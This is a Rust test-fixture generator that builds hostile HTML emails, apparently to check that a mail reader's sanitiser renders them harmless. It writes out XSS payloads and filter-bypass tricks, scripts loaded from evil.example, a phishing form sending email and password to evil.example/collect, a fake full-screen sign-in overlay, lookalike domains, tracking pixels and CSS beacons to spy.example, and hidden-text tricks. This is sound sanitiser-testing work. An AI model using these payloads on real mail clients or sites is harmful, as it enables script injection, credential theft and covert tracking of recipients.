//! HTML that wants to run, to phone home or to look like the reader itself. It must come out harmless.

use crate::dice::Dice;
use crate::world::compose::prose::{self, Tongue};
use crate::world::mime::write::Node;

fn words(dice: &mut Dice) -> String {
    prose::escape(&prose::sentence(dice, Tongue::English))
}

/// Scripts in every place that can hold one.
pub fn scripted(dice: &mut Dice) -> Node {
    let (text, mark) = (words(dice), dice.hex(8));
    Node::text(
        "html",
        format!(
            "<html><head><script src=\"https://evil.example/{mark}.js\"></script><script>window.pwned='{mark}';</script>\n\
             <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{mark}\"><base href=\"https://evil.example/\"></head>\n\
             <body onload=\"alert('{mark}')\"><p onclick=\"steal()\" onmouseover='steal()'>{text}</p>\n\
             <a href=\"javascript:alert('{mark}')\">Open</a> <a href=\" JaVaScRiPt&#58;alert(1)\">report</a> <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">{mark}</a>\n\
             <img src=x onerror=alert(1)><svg onload=alert(1)><script>alert(2)</script><a xlink:href=\"javascript:alert(3)\"><text y=20>svg</text></a></svg>\n\
             <math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>\n\
             <object data=\"https://evil.example/{mark}.swf\"></object><embed src=\"https://evil.example/x\"><applet code=X></applet>\n\
             <scr<script>ipt>alert(5)</scr</script>ipt><noscript><p title=\"</noscript><img src=x onerror=alert(6)>\"></noscript>\n</body></html>\n"
        ),
    )
}

/// Forms and frames that ask for secrets.
pub fn phishing(dice: &mut Dice) -> Node {
    let (text, mark) = (words(dice), dice.hex(8));
    Node::text(
        "html",
        format!(
            "<html><body><p>{text}</p>\n<form action=\"https://evil.example/collect\" method=\"post\"><input name=\"email\"><input type=\"password\" name=\"password\"><input type=\"hidden\" name=\"m\" value=\"{mark}\">\n\
             <button formaction=\"javascript:alert(1)\">Confirm</button></form>\n\
             <iframe src=\"https://evil.example/{mark}\" width=\"600\" height=\"400\" srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>\n\
             <a href=\"https://evil.example/{mark}\">https://www.bancobcr.com/</a>\n\
             <div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#ffffff\"><h1>Your session has ended</h1><a href=\"https://evil.example/sign-in\">Sign in</a></div>\n\
             <a href=\"https://xn--pple-43d.example/\" target=\"_top\">apple</a></body></html>\n"
        ),
    )
}

/// Styles, links and pictures that tell somebody the mail was opened.
pub fn leaking(dice: &mut Dice) -> Node {
    let (text, mark) = (words(dice), dice.hex(8));
    Node::text(
        "html",
        format!(
            "<html><head><link rel=\"stylesheet\" href=\"https://spy.example/{mark}.css\"><link rel=\"preconnect\" href=\"https://spy.example\">\n\
             <style>@import url(https://spy.example/{mark}-2.css); @font-face {{ font-family:x; src:url(https://spy.example/f.woff2) }}\n\
             body {{ background:url('https://spy.example/{mark}.png') }} p {{ behavior:url(x.htc); width:expression(alert(1)); -moz-binding:url(x.xml) }}\n\
             .x::after {{ content:url(https://spy.example/after) }}</style></head>\n\
             <body background=\"https://spy.example/bg-{mark}.gif\"><p style=\"background-image:url(https://spy.example/p.png)\">{text}</p>\n\
             <img src=\"https://spy.example/{mark}.gif\" srcset=\"https://spy.example/{mark}@2x.gif 2x\" width=1 height=1>\n\
             <picture><source srcset=\"https://spy.example/webp\"><img src=\"//spy.example/plain.png\"></picture>\n\
             <video poster=\"https://spy.example/poster\" src=\"https://spy.example/v.mp4\" autoplay></video><audio src=\"https://spy.example/a.mp3\"></audio>\n\
             <table background=\"https://spy.example/table\"><tr><td><input type=image src=\"https://spy.example/i\"></td></tr></table></body></html>\n"
        ),
    )
}

/// Text that is there and is not.
pub fn hidden(dice: &mut Dice) -> Node {
    let (text, number) = (words(dice), dice.digits(5));
    Node::text(
        "html",
        format!(
            "<html><body><!-- <p>a comment with a <b>tag</b> --><p>{text}</p>\n<p style=\"display:none\">You were paid {number} EUR.</p><p style=\"font-size:0;color:#ffffff\">invisible {number}</p>\n\
             <p>Tot&shy;al: <s>{number}</s> <bdo dir=\"rtl\">{number}</bdo> &#8203;\u{200B}zero\u{200D}width\u{FEFF}</p><template><p>inert {number}</p></template>\n\
             <!--[if mso]><p>only for old programs {number}</p><![endif]--></body></html>\n"
        ),
    )
}
